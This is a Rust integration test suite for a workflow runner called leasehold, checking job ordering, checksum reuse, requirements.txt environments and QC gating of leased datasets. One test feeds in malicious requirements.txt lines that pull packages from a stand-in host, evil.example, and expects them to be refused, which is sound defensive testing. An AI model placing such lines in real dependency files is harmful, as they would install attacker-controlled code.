//! Workflows as jupyterflow's users write them, against three real nodes:
//! the examples in `examples/jupyterflow/` run unchanged with `leasehold
//! run`; a thesis-style chain in the Jupyter home on leased data and on an
//! owner's own dataset; result reuse by checksum; a `requirements.txt`
//! environment, built once; QC tests that gate the leased data.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::runs::*;
use common::*;
use serde_json::{json, Value};

fn text(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// `leasehold run -f FILE` against node `i`, as its admin.
fn cli_run(net: &TestNet, i: usize, file: &Path, extra: &[&str]) -> Output {
    let token = net.nodes[i].dir.join("admin.token");
    let args = ["run", "-f", path_str(file), "--url", &net.nodes[i].url, "--token-file", path_str(&token)];
    Command::new(bin()).args(args).args(extra).output().expect("run leasehold")
}

/// The run id `leasehold run` printed as it started.
fn run_id(out: &Output) -> String {
    let all = text(out);
    let at = all.find("run run-").unwrap_or_else(|| panic!("no run id in: {all}")) + 4;
    all[at..].split_whitespace().next().unwrap().trim_end_matches(':').to_string()
}

fn example(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/jupyterflow").join(name).join("workflow.yaml")
}

async fn submit(net: &TestNet, i: usize, yaml: &str, query: &str) -> (u16, Value) {
    net.call_raw(i, "POST", &format!("/v1/runs{query}"), yaml.as_bytes().to_vec(), "application/yaml").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_jupyterflow_examples_run_unchanged_with_their_middle_jobs_side_by_side() {
    let net = TestNet::start(3).await;
    let out = cli_run(&net, 1, &example("get-started"), &[]);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    for line in ["[job 1] hello", "[job 2] world foo!", "[job 3] world bar!", "[job 4] hello again!"] {
        assert!(all.contains(line), "{line:?} missing from: {all}");
    }
    let run = run_on(&net, 1, &run_id(&out)).await;
    let (two, three) = (&run["jobs"][1], &run["jobs"][2]);
    let (s2, f2, s3, f3) = (&two["started_at"], &two["finished_at"], &three["started_at"], &three["finished_at"]);
    let at = |v: &Value| v.as_str().unwrap().to_string();
    // max_parallel_jobs is the number of cores by default.
    if std::thread::available_parallelism().map_or(1, |n| n.get()) >= 2 {
        assert!(at(s2) < at(f3) && at(s3) < at(f2), "jobs 2 and 3 overlapped: {two} {three}");
    } else {
        eprintln!("SKIPPED the overlap check: one core, so jobs run one at a time by default");
    }
    assert!(at(&run["jobs"][3]["started_at"]) >= at(f2).max(at(f3)), "job 4 waited for both: {run}");

    let out = cli_run(&net, 1, &example("basic"), &[]);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    for line in ["Hello world", "Hello bob", "Hello foo", "[job 4] hello.sh", "leasehold ran it all"] {
        assert!(all.contains(line), "{line:?} missing from: {all}");
    }
}

/// Job 2 appends to /home/jovyan/result.txt, job 3 appends again, job 4
/// prints both lines; the leased volume is mounted inside the home; a
/// write elsewhere fails loudly. Then the owner runs on its own dataset, a
/// second identical run is reused, `force` runs again, and a new version
/// of the dataset makes a new run.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thesis_chain_in_the_jupyter_home_and_reuse_by_checksum() {
    let net = TestNet::start(3).await;
    let lease = leased_dataset(&net, "thesis", 600_000).await;
    let yaml = format!(
        r#"cmd_mode: shell
jobs:
- command: ls /home/jovyan/uis/dir; cat uis/dir/data.csv
  volumes: [{{id: {}, name: uis, path: /home/jovyan/uis}}]
- echo line two >> /home/jovyan/result.txt
- echo line three >> result.txt
- cat ~/result.txt
- echo lost > /home/elsewhere.txt
dags: ['1 >> 2 >> 3 >> 4']
"#,
        lease["id"].as_str().unwrap()
    );
    let (code, r) = submit(&net, 1, &yaml, "").await;
    assert_eq!(code, 201, "{r}");
    let id = r["id"].as_str().unwrap();
    let run = ended_on(&net, 1, id, 30).await;
    let log = log_on(&net, 1, id).await;
    let status = |n: usize| run["jobs"][n - 1]["status"].as_str().unwrap().to_string();
    assert_eq!([1, 2, 3, 4].map(status), ["succeeded"; 4], "{run}\n{log}");
    assert!(log.contains("data.csv") && log.contains("3,4"), "the volume is at ~/uis: {log}");
    assert!(log.contains("line two") && log.contains("line three"), "{log}");
    assert_eq!(status(5), "failed", "{run}");
    assert!(log.contains("/home/elsewhere.txt: Read-only file system"), "the write failed loudly: {log}");

    // The owner, org1, runs on its own dataset by its id: no lease.
    let own = "cmd_mode: shell\njobs:\n- command: cp uis/dir/data.csv $OUTPUT_DIR/copy.csv\n  volumes: [{id: thesis, name: uis, path: /home/jovyan/uis}]\n";
    let (code, r) = submit(&net, 0, own, "").await;
    assert_eq!(code, 201, "{r}");
    assert_eq!((r["leases"].clone(), r["inputs"].clone()), (json!([]), json!(["thesis@1"])), "{r}");
    let first = ended_on(&net, 0, r["id"].as_str().unwrap(), 30).await;
    assert_eq!(first["status"], "succeeded", "{first}");
    assert!(first["start_tx"].is_string() && first["finish_tx"].is_string(), "on the ledger: {first}");

    // The same again is reused, and is a run on the ledger like any other.
    let (code, again) = submit(&net, 0, own, "").await;
    assert_eq!((code, &again["reused_from"]), (201, &first["id"]), "{again}");
    let again = ended_on(&net, 0, again["id"].as_str().unwrap(), 30).await;
    assert_eq!((again["status"].as_str(), &again["output_hash"]), (Some("succeeded"), &first["output_hash"]));
    assert!(again["finish_tx"].is_string(), "{again}");
    let not_run = again["jobs"][0]["error"].as_str().unwrap();
    assert!(not_run.contains(&format!("the outputs of run {} were reused", first["id"].as_str().unwrap())));
    // Forced, it runs.
    let (_, forced) = submit(&net, 0, own, "?force=true").await;
    assert!(forced["reused_from"].is_null(), "{forced}");
    let forced = ended_on(&net, 0, forced["id"].as_str().unwrap(), 30).await;
    assert_eq!((forced["status"].as_str(), &forced["output_hash"]), (Some("succeeded"), &first["output_hash"]));
    assert_eq!(forced["jobs"][0]["status"], "succeeded", "{forced}");

    // A new version of the dataset is a new input: the run is not reused.
    let path = "/v1/datasets/thesis/files/dir/data.csv";
    assert_eq!(net.call_raw(0, "PUT", path, b"a,b\n5,6\n".to_vec(), "text/csv").await.0, 201);
    let (code, v2) = net.call(0, "PATCH", "/v1/datasets/thesis", None, Some(json!({}))).await;
    assert!(code == 200 || code == 202, "{v2}");
    let (code, newer) = submit(&net, 0, own, "").await;
    assert_eq!(code, 201, "{newer}");
    assert_eq!((newer["inputs"].clone(), newer["reused_from"].clone()), (json!(["thesis@2"]), Value::Null));
    let newer = ended_on(&net, 0, newer["id"].as_str().unwrap(), 30).await;
    assert_eq!(newer["status"], "succeeded", "{newer}");
    assert_ne!(newer["output_hash"], first["output_hash"], "{newer}");
}

fn write_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (path, body) in files {
        let p = dir.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    dir
}

/// The `environment ready in N ms` figure of a run's log.
fn env_ms(log: &str) -> u64 {
    let at = log.find("environment ready in ").unwrap_or_else(|| panic!("no environment in: {log}")) + 21;
    log[at..].split_whitespace().next().unwrap().parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_requirements_txt_builds_an_environment_once_and_a_second_run_reuses_it() {
    let net = TestNet::start(3).await;
    let dir = write_dir(&[
        ("workflow.yaml", "jobs:\n- python show.py\n"),
        ("show.py", "import six, sys\nprint('six', six.__version__, 'in', sys.prefix)\n"),
        ("requirements.txt", "six==1.16.0\n"),
    ]);
    let wf = dir.path().join("workflow.yaml");
    let first = cli_run(&net, 1, &wf, &[]);
    assert_eq!(first.status.code(), Some(0), "{}", text(&first));
    assert!(text(&first).contains("[job 1] six 1.16.0 in /run/leasehold/venv"), "{}", text(&first));
    let (id1, id2) = (run_id(&first), {
        let second = cli_run(&net, 1, &wf, &["--force"]);
        assert_eq!(second.status.code(), Some(0), "{}", text(&second));
        run_id(&second)
    });
    let (log1, log2) = (log_on(&net, 1, &id1).await, log_on(&net, 1, &id2).await);
    assert!(log2.contains("reused from the cache"), "{log2}");
    let (built, cached) = (env_ms(&log1), env_ms(&log2));
    println!("FIGURE environment: built in {built} ms, taken from the cache in {cached} ms");
    let (r1, r2) = (run_on(&net, 1, &id1).await, run_on(&net, 1, &id2).await);
    assert!(r1["environment"].is_string() && r1["environment"] == r2["environment"], "{r1} {r2}");
    // The environment is part of the code the ledger names.
    let (_, bare) = submit(&net, 1, "jobs:\n- python show.py\n", "").await;
    assert_ne!(bare["workflow_hash"], r1["workflow_hash"]);
    // Options, URLs and paths would let the workflow choose what runs while
    // the build has network: refused, naming the line.
    for bad in ["--index-url https://evil.example/simple\n", "six\nevil @ https://evil.example/e.whl\n", "./pkg\n"] {
        std::fs::write(dir.path().join("requirements.txt"), bad).unwrap();
        let refused = cli_run(&net, 1, &wf, &[]);
        assert_ne!(refused.status.code(), Some(0), "{}", text(&refused));
        assert!(text(&refused).contains("[bundle]: bundle: requirements.txt: line"), "{bad:?}: {}", text(&refused));
    }
    // A requirement pip cannot satisfy fails the run before any job, naming why.
    std::fs::write(dir.path().join("requirements.txt"), "no-such-package-leasehold-test==0.0.1\n").unwrap();
    let failed = cli_run(&net, 1, &wf, &[]);
    assert_ne!(failed.status.code(), Some(0), "{}", text(&failed));
    assert!(text(&failed).contains("building the environment from requirements.txt failed"), "{}", text(&failed));
}

const COUNT_PY: &str = "rows = open('d/dir/data.csv').read().splitlines()[1:]\nprint('rows:', len(rows))\n";

fn qc_workflow(lease: &str, expect: &str) -> String {
    format!(
        "jobs:\n- command: python count.py\n  volumes: [{{id: {lease}, name: d, path: /home/jovyan/d}}]\n\
         tests:\n- name: counts the sample\n  command: python count.py\n  \
         fixtures: [{{from: tests/sample, path: /home/jovyan/d}}]\n  output: '{expect}'\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_qc_test_stops_the_run_before_any_data_is_fetched() {
    let net = TestNet::start(3).await;
    let lease = leased_dataset(&net, "qc", 600_000).await;
    let lease = lease["id"].as_str().unwrap();
    let cache = net.nodes[1].dir.join("data/cache").join(lease);
    let sample = "a,b\n7,8\n9,10\n";
    let dir = write_dir(&[("count.py", COUNT_PY), ("tests/sample/dir/data.csv", sample)]);
    let wf = dir.path().join("workflow.yaml");

    std::fs::write(&wf, qc_workflow(lease, "rows: 99")).unwrap();
    let failed = cli_run(&net, 1, &wf, &[]);
    assert_ne!(failed.status.code(), Some(0), "{}", text(&failed));
    let run = run_on(&net, 1, &run_id(&failed)).await;
    assert_eq!(run["status"], "failed", "{run}");
    let reason = run["reason"].as_str().unwrap();
    assert!(reason.contains("test \"counts the sample\" failed: its output does not contain \"rows: 99\""), "{run}");
    assert_eq!(run["jobs"][0]["status"], "cancelled", "no job ran: {run}");
    assert!(!text(&failed).contains("fetching"), "nothing was fetched: {}", text(&failed));
    assert!(!cache.exists(), "no leased byte reached the lessee's node");

    std::fs::write(&wf, qc_workflow(lease, "rows: 2")).unwrap();
    let passed = cli_run(&net, 1, &wf, &[]);
    let all = text(&passed);
    assert_eq!(passed.status.code(), Some(0), "{all}");
    let (tested, fetched) = (all.find("test \"counts the sample\" passed").unwrap(), all.find("fetching").unwrap());
    assert!(tested < fetched, "the test ran before the fetch: {all}");
    assert!(all.contains("[job 1] rows: 2"), "{all}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dataset_that_requires_tests_refuses_workflows_without_them() {
    let net = TestNet::start(3).await;
    let lease = leased_dataset_with(&net, "strict", 600_000, json!({"require_tests": true})).await;
    let lease = lease["id"].as_str().unwrap();
    let untested = format!("jobs:\n- command: ls d\n  volumes: [{{id: {lease}, name: d, path: /home/jovyan/d}}]\n");
    let (code, p) = submit(&net, 1, &untested, "").await;
    assert_eq!((code, p["field"].as_str()), (422, Some("tests")), "{p}");
    assert!(p["detail"].as_str().unwrap().contains("dataset strict's policy requires QC tests"), "{p}");
    assert_eq!(net.get(1, "/v1/runs").await.1, json!([]), "no run was recorded");
    let tested = format!("{untested}tests:\n- command: 'true'\n");
    let (code, r) = submit(&net, 1, &tested, "").await;
    assert_eq!(code, 201, "{r}");
    let run = ended_on(&net, 1, r["id"].as_str().unwrap(), 30).await;
    assert_eq!(run["status"], "succeeded", "{run}");
}
